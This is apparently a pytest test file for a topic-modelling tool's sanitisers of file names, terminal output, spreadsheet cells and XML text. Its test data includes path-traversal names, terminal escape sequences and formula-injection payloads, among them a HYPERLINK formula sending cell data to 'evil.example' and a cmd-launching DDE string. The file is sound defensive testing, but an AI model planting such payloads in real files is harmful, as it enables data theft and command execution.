"""The small helpers that keep data from acting: safe file names, terminal escaping, spreadsheet
cells that stay text, and XML-illegal characters."""

from __future__ import annotations

import logging
import unicodedata
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from topicbook.chars import find_nul, strip_xml_illegal
from topicbook.errors import ConfigError
from topicbook.names import MAX_NAME_BYTES, printable, safe_name, safe_unique_names, unique_name
from topicbook.spreadsheet import cells_as_text, neutralise_cell, restore_cell, write_text_cell

HOSTILE_NAMES = ["../../outside", "/etc/passwd", "a/../../b", "..\\..\\win", "C:\\Windows\\x", "~/.bashrc",
                 ".hidden", "-rf", "name\x1b[2J\x1b]0;pwned\x07", "line\nbreak", "tab\there", "CON", "nul.txt",
                 "com1", "x" * 300, "é" * 200, "日本語のモデル", "  spaced name  ", "a:b*c?d\"e<f>g|h", "trailing.",
                 "\u202eevil.exe", "name/with/slashes/../..", "....a"]


# --------------------------------------------------------------------------- safe names


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_a_safe_name_always_resolves_inside_its_folder(name: str, tmp_path: Path) -> None:
    safe = safe_name(name)
    assert "/" not in safe and "\\" not in safe and "\x00" not in safe
    assert not safe.startswith((".", "-")) and not safe.endswith(".")
    assert len(safe.encode("utf-8")) <= MAX_NAME_BYTES
    assert all(unicodedata.category(c)[0] in "LN" or c in "-_." for c in safe)
    for pattern in ("{}", "{}.html", "top_terms_{}.svg", "{}-20260101T000000Z-2"):
        target = tmp_path / "run" / pattern.format(safe)
        assert target.resolve().parent == (tmp_path / "run").resolve()
        target.parent.mkdir(exist_ok=True)
        target.write_text("x", encoding="utf-8")  # the operating system accepts it
    assert safe_name(safe) == safe  # the rule is idempotent


def test_safe_names_keep_ordinary_names_and_follow_the_rule() -> None:
    assert [safe_name(n) for n in ("lda_k10", "mooc-demo", "guided_lda_x3", "Zürich", "v1.2")] == \
        ["lda_k10", "mooc-demo", "guided_lda_x3", "Zürich", "v1.2"]
    assert safe_name("lda k10") == "lda_k10"
    assert safe_name("../../outside") == "_.._outside"
    assert safe_name("CON") == "CON_" and safe_name("nul.txt") == "nul_.txt" and safe_name("console") == "console"
    assert safe_name("x" * 300) == "x" * MAX_NAME_BYTES
    assert safe_name("é" * 200) == "é" * (MAX_NAME_BYTES // 2)
    assert safe_name("name\x1b[2J") == "name_2J"
    assert safe_name("\x1b[2J") == "_2J"  # what is left is a (strange) name


@pytest.mark.parametrize(("name", "message"), [
    ("a\x00b", "models[1].name: 'a\\x00b' contains a NUL character and cannot be used as a file name. Use only letters, digits, '-', '_' and '.'."),
    ("///", "models[1].name: '///' has no letter or digit left as a file name. Use letters, digits, '-', '_' and '.'."),
    ("..", "models[1].name: '..' has no letter or digit left as a file name. Use letters, digits, '-', '_' and '.'."),
    ("", "models[1].name: '' has no letter or digit left as a file name. Use letters, digits, '-', '_' and '.'."),
])
def test_a_name_that_cannot_be_made_safe_is_one_line(name: str, message: str) -> None:
    with pytest.raises(ConfigError) as info:
        safe_name(name, what="models[1].name")
    assert str(info.value) == message
    assert "\n" not in str(info.value) and "\x1b" not in str(info.value)


def test_collisions_get_a_suffix_ignoring_case() -> None:
    assert unique_name("lda", set()) == "lda"
    assert unique_name("lda", {"LDA"}) == "lda-2"
    assert unique_name("lda", {"lda", "lda-2"}) == "lda-3"
    assert safe_unique_names(["lda/1", "lda:1", "LDA_1", "nmf"]) == ["lda_1", "lda_1-2", "LDA_1-3", "nmf"]
    long = safe_unique_names(["y" * 300, "y" * 200])
    assert long[0] != long[1] and all(len(n.encode()) <= MAX_NAME_BYTES for n in long)
    with pytest.raises(ConfigError, match=r"^models\[1\]\.name: "):
        safe_unique_names(["ok", "\x00"], what="models[{i}].name")


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(min_size=1, max_size=120), min_size=1, max_size=6))
def test_safe_unique_names_are_distinct_and_safe_for_any_text(names: list[str]) -> None:
    try:
        out = safe_unique_names(names)
    except ConfigError as exc:
        assert "\n" not in str(exc)
        return
    assert len({n.casefold() for n in out}) == len(out)
    for n in out:
        assert n and "/" not in n and not n.startswith((".", "-")) and len(n.encode()) <= MAX_NAME_BYTES


# --------------------------------------------------------------------------- terminal text


def test_printable_escapes_what_a_terminal_acts_on() -> None:
    assert printable("doc\x1b[2J\x1b]0;title\x07.txt") == "doc\\x1b[2J\\x1b]0;title\\x07.txt"
    assert printable("a\nWarning: fake\r\tz") == "a\\nWarning: fake\\r\\tz"
    assert printable("\u202etxt.exe \x9b31m \x7f") == "\\u202etxt.exe \\x9b31m \\x7f"
    assert printable("Zürich 日本 مرحبا 🙂 ’") == "Zürich 日本 مرحبا 🙂 ’"
    assert printable(3) == "3"


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_printable_output_has_no_control_character(text: str) -> None:
    out = printable(text)
    assert not any(unicodedata.category(c) == "Cc" for c in out)
    assert "\u202e" not in out and "\u2028" not in out


# --------------------------------------------------------------------------- spreadsheet cells


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("http://x","y")', "'=1"])
def test_formula_like_cells_get_an_apostrophe_and_come_back(value: str) -> None:
    out = neutralise_cell(value)
    assert out == "'" + value
    assert restore_cell(out) == value


@pytest.mark.parametrize("value", ["hello", "", "It's fine", "'quoted'", "a=b", " =1", 5, -3.5, None])
def test_ordinary_cells_are_left_alone(value: object) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "a", " "]), max_size=6))
def test_restore_is_the_exact_inverse_and_no_cell_starts_a_formula(value: str) -> None:
    out = neutralise_cell(value)
    assert restore_cell(out) == value
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r"))


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as zf:
        return zf.read("xl/worksheets/sheet1.xml").decode("utf-8")


def test_xlsx_cells_are_written_as_text_never_as_formulas(tmp_path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    values = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "plain", 7]
    for i, value in enumerate(values, 1):
        write_text_cell(book.active, i, 1, value)
    path = tmp_path / "x.xlsx"
    book.save(path)
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml
    again = openpyxl.load_workbook(path).active
    assert [again.cell(i, 1).value for i in range(1, len(values) + 1)] == values
    assert [again.cell(i, 1).data_type for i in range(1, 6)] == ["s"] * 5
    assert [again.cell(i, 1).quotePrefix for i in range(1, 6)] == [True, True, True, True, False]


def test_cells_as_text_repairs_a_pandas_sheet(tmp_path: Path) -> None:
    import pandas as pd

    path = tmp_path / "p.xlsx"
    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        pd.DataFrame({"text": ["=1+1", "fine", "@x"], "n": [1, 2, 3]}).to_excel(writer, sheet_name="s", index=False)
        assert cells_as_text(writer.sheets["s"]) == 2
    assert "<f>" not in _sheet_xml(path)


# --------------------------------------------------------------------------- characters


def test_xml_illegal_characters_are_stripped_and_counted() -> None:
    from xml.etree import ElementTree as ET

    controls = "".join(chr(c) for c in range(0x20))
    text = f"a{controls}b\ud800c\ufffe\uffffd é 日 🙂"
    clean, n = strip_xml_illegal(text)
    assert clean == "a\t\n\rbcd é 日 🙂"
    assert n == 32 - 3 + 3
    element = ET.Element("x", {"name": clean})
    element.text = clean
    ET.fromstring(ET.tostring(element))  # well-formed
    assert strip_xml_illegal("plain") == ("plain", 0)


def test_find_nul_gives_offset_and_line() -> None:
    assert find_nul("no nul") is None
    assert find_nul("ab\ncd\x00") == (5, 2)


def test_qdc_with_control_characters_reads_back_and_says_how_many_were_dropped(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    from topicbook.codebook import Code, Codebook
    from topicbook.qdc import read_qdc, write_qdc

    book = Codebook("b", (Code(id="a", name="Bell\x07 code", definition="Form\x0cfeed\x1b[31m", keywords=("k\x01",)),), "b")
    with caplog.at_level(logging.WARNING, logger="topicbook"):
        path = write_qdc(book, tmp_path / "b.qdc")
    [code] = read_qdc(path).codes
    assert code.name == "Bell code" and code.definition == "Formfeed[31m"
    assert code.keywords == ("k\x01",)  # kept, JSON-escaped inside the description
    assert [r.getMessage() for r in caplog.records] == [
        "REFI-QDA export: dropped 3 control characters that XML cannot hold (from code names, definitions or document names)."]
